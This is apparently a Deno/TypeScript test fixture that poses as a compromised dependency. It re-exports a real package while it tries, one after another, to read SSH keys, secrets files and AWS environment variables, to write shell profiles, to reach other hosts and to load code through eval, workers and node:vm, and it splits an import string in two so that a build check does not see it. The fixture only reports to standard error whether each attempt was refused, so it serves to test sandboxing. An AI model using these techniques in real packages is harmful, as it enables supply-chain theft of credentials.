/**
 * Stands in for a dependency that turned bad: tries what such code would try,
 * and says on standard error what it got. Bundled in the place of a package,
 * whose exports it passes on, so that the program works as always.
 */
import { readFileSync } from "node:fs";
import * as processModule from "node:process";
import { join } from "node:path";

export * from "@stricli/core";

// deno-lint-ignore no-explicit-any -- hostile code does not care for types
const any = globalThis as any;
const home = Deno.env.get("HOME")!;
const inHome = (...path: string[]) => join(home, ...path);
const key = inHome(".ssh/id_rsa");
const json = `file://${inHome("secrets.json")}`;
// In pieces, because the build refuses what it can see of such code.
const importJson = ["im", "port"].join("") +
  `("${json}", { with: { type: "json" } })`;
// Of the variables that reach it, one that the test has no other use for.
const port = Number(Deno.env.get("TERM"));
const elsewhere = `http://127.0.0.1:${port}/`;
const builtin = (name: string) => any.process.getBuiltinModule(name);
// deno-lint-ignore no-explicit-any -- its type is that of the default itself
const process = (processModule as any).default as typeof processModule;

const MODULE = { type: "module" };
const postJson = encodeURIComponent(
  `import json from "${json}" with { type: "json" }; postMessage(json);`,
);

const ATTEMPTS: Record<string, () => unknown> = {
  "read ~/.ssh": () => Deno.readTextFile(key),
  "read ~/.ssh through Node": () => readFileSync(key),
  "read ~/.ssh by way of ~/.aws": () =>
    Deno.readTextFile(`${inHome(".aws")}/../.ssh/id_rsa`),
  "read ~/.ssh with fetch": () => fetch(`file://${key}`),
  "read ~/.env": () => any.process.loadEnvFile(inHome(".env")),
  "link ~/.ssh into ~/.aws": () => Deno.symlink(key, inHome(".aws/link")),
  "link a key into ~/.aws": () => Deno.link(key, inHome(".aws/hard")),
  "move a key into ~/.aws": () => Deno.rename(key, inHome(".aws/moved")),
  "copy a key into ~/.aws": () => Deno.copyFile(key, inHome(".aws/copied")),
  "list the home folder": () => [...Deno.readDirSync(home)],
  "write ~/.profile": () => Deno.writeTextFile(inHome(".profile"), "evil"),
  "write ~/.aws/config": () =>
    Deno.writeTextFile(inHome(".aws/config"), "evil"),
  "plant a file in ~/.aws": () => Deno.writeTextFile(inHome(".aws/x"), "evil"),
  "make a temporary file": () => Deno.makeTempFile(),
  "keep something in a cache": () => any.caches.open("evil"),
  "reach another host": () => fetch(elsewhere),
  "reach a host over TLS": () => fetch("https://example.com/"),
  "open a socket": () => Deno.connect({ hostname: "127.0.0.1", port }),
  "open a WebSocket": () => opened(new WebSocket(elsewhere)),
  "open an event stream": () => {
    const source = new EventSource(elsewhere);
    return new Promise((resolve, reject) => {
      source.onopen = resolve;
      source.onerror = () => reject("silence");
    }).finally(() => source.close());
  },
  "reach STS through a proxy of its own": () =>
    fetch("https://sts.amazonaws.com/", {
      client: Deno.createHttpClient({ proxy: { url: elsewhere } }),
    }),
  "ask DNS": () => Deno.resolveDns("secret.example.com", "A"),
  "listen": () => Deno.listen({ hostname: "0.0.0.0", port: 0 }),
  "start a process": () => new Deno.Command(Deno.execPath()).output(),
  "end the process that started it": () => any.process.kill(Deno.ppid, 0),
  "load a library": () => Deno.dlopen("libc.so.6", {}),
  "read another variable": () => Deno.env.get("OTHER_SECRET")!.length,
  "read the keys of the environment": () =>
    Deno.env.get("AWS_SECRET_ACCESS_KEY")!.length,
  "read all variables": () => Deno.env.toObject(),
  "read a variable through Node": () => any.process.env.OTHER_SECRET.length,
  "ask for permission": async () => {
    const { state } = await Deno.permissions.request({ name: "read" });
    if (state !== "granted") throw state;
  },
  "load code with eval": () => any.eval(importJson),
  "load code with Function": () => new Function(`return ${importJson}`)(),
  "load code with a worker": () =>
    heard(new any.Worker(`data:text/javascript,${postJson}`, MODULE)),
  "load code with node:vm": () =>
    builtin("node:vm").runInThisContext(importJson, { filename: json }),
  "load code with node:worker_threads": () =>
    new (builtin("node:worker_threads").Worker)(postJson, { eval: true }),
  "load code with node:module": () =>
    builtin("node:module").createRequire(json)("./secrets.json"),
  "load code with what node:process exports": () =>
    Reflect.get(processModule, "getBuiltin" + "Module")("node:vm")
      .runInThisContext(importJson, { filename: json }),
  "load code with a graphics driver": () => any.navigator.gpu.requestAdapter(),
  "load code where the system looks for it": () =>
    Deno.env.set("HOME", inHome(".aws")),
  "load code where the system looks for it, through Node": () => {
    any.process.env.HOME = inHome(".aws");
  },
  "load code where the system looks for it, through node:process": () => {
    Reflect.get(processModule, "env").HOME = inHome(".aws");
  },
  "load code with the runtime's own tools": () =>
    any.Deno[any.Deno.internal].core.evalContext(importJson, json),
};

function opened(socket: WebSocket): Promise<void> {
  return new Promise((resolve, reject) => {
    socket.onopen = () => resolve();
    // The test's server answers with no WebSocket, but it was reached.
    socket.onerror = (event: Event) =>
      /permission|access/i.test((event as ErrorEvent).message)
        ? reject(event)
        : resolve();
  });
}

function heard(worker: Worker): Promise<void> {
  return new Promise<void>((resolve, reject) => {
    worker.onmessage = () => resolve();
    worker.onerror = (event) => {
      event.preventDefault();
      reject(new Error(event.message));
    };
  }).finally(() => worker.terminate());
}

for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  let outcome = "got through";
  try {
    await attempt();
  } catch (error) {
    outcome = `refused: ${error instanceof Error ? error.name : error}`;
  }
  process.stderr.write(`hostile: ${name}: ${outcome}\n`);
}
